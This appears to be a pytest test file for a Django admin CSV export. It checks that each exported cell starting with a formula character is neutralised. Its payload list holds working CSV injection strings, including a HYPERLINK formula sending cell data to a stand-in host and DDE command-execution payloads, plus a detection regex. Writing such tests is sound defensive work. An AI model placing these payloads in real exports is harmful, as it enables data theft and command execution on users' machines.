"""CSV injection sweep: no exported cell is a formula a spreadsheet would run (OWASP "CSV injection").

Every ModelAdmin that offers the export is found from the admin site, so a new one is swept
without being listed here, and every CSV the product writes must go through the one export
(``test_the_product_writes_csv_only_through_the_admin_export``).
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib import admin
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.test import RequestFactory
from django.urls import reverse

from accounts.models import User
from billing import services as billing_services
from billing.models import LedgerEntry
from heyon_site import admin_tools
from heyon_site.admin_tools import export_as_csv, neutralise_cell
from tests.factories import CustomerFactory, make_staff

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
FORMULA = re.compile(r"^\s*[=+\-@]|^[\t\r\n]")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def exporting_admins():
    request = RequestFactory().get("/admin/")
    request.user = User(is_superuser=True, is_staff=True, is_active=True)
    return [
        (model, model_admin)
        for model, model_admin in sorted(admin.site._registry.items(), key=lambda item: item[0]._meta.label)
        if any(function is export_as_csv for function, _n, _d in model_admin.get_actions(request).values())
    ]


def dangerous(cell: str) -> bool:
    return bool(FORMULA.match(cell)) and not PLAIN_NUMBER.fullmatch(cell)


def read(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


class _Rows:
    """A queryset stand-in: the export reads rows only through ``iterator``."""

    def __init__(self, rows):
        self.rows = rows

    def iterator(self, chunk_size=None):
        return iter(self.rows)

    def select_related(self, *fields):
        return self

    def prefetch_related(self, *lookups):
        return self


def test_the_sweep_finds_the_exports():
    labels = {model._meta.label for model, _admin in exporting_admins()}
    assert {"accounts.User", "billing.Order", "billing.LedgerEntry", "reviews.Submission"} <= labels


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_column_of_every_export_is_neutralised(monkeypatch, payload):
    """Each exporting admin's every column, fed a formula, comes out as text."""
    monkeypatch.setattr(admin_tools, "lookup_field", lambda name, obj, model_admin: (None, None, payload))
    request = RequestFactory().post("/admin/")
    request.user = User(is_superuser=True, is_staff=True, is_active=True)
    unsafe = {}
    for model, model_admin in exporting_admins():
        rows = read(export_as_csv(model_admin, request, _Rows([model()])))
        cells = rows[1]
        assert len(cells) == len(rows[0]) >= 1
        for column, cell in zip(rows[0], cells, strict=True):
            if dangerous(cell) or cell != "'" + payload:
                unsafe[(model._meta.label, column)] = cell
    assert unsafe == {}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-30.00"), "-30.00"),
        (-5, "-5"),
        ("-30.00", "-30.00"),
        ("+8613800138000", "+8613800138000"),
        ("-", "'-"),
        ("- 5", "'- 5"),
        ("=1+1", "'=1+1"),
        ("a=1", "a=1"),
        ("", ""),
        (True, "True"),
    ],
)
def test_numbers_keep_their_sign_and_formulas_become_text(value, written):
    assert str(neutralise_cell(value)) == written


def test_a_real_export_writes_a_refund_as_a_number_and_a_reference_as_text(client):
    """End to end through the changelist: a negative amount stays a number, a formula in a text column does not."""
    customer = CustomerFactory()
    billing_services.ledger_append(user=customer, kind="topup", amount=Decimal("50.00"), reference="=1+1")
    billing_services.ledger_append(user=customer, kind="refund", amount=Decimal("-30.00"), reference="@SUM(A1)")
    client.force_login(make_staff("admin"))

    response = client.post(
        reverse("admin:billing_ledgerentry_changelist"),
        {"action": "export_as_csv", "select_across": "1", "index": "0", ACTION_CHECKBOX_NAME: ["0"]},
    )

    rows = read(response)
    header, body = rows[0], rows[1:]
    assert len(body) == LedgerEntry.objects.count() == 2
    amounts = {row[header.index(str(LedgerEntry._meta.get_field("amount").verbose_name))] for row in body}
    references = {row[header.index(str(LedgerEntry._meta.get_field("reference").verbose_name))] for row in body}
    assert amounts == {"50.00", "-30.00"}
    assert references == {"'=1+1", "'@SUM(A1)"}
    assert not [cell for row in rows for cell in row if dangerous(cell)]


def test_the_product_writes_csv_only_through_the_admin_export():
    """A new CSV writer elsewhere would skip the neutralising: route it through admin_tools instead."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|text/csv")
    found = set()
    for path in Path(settings.BASE_DIR).rglob("*.py"):
        relative = path.relative_to(settings.BASE_DIR)
        if relative.parts[0] in {".venv", "tests", "bench"} or "site-packages" in relative.parts:
            continue
        if writers.search(path.read_text(encoding="utf-8")):
            found.add(str(relative))
    assert found == {"heyon_site/admin_tools.py"}
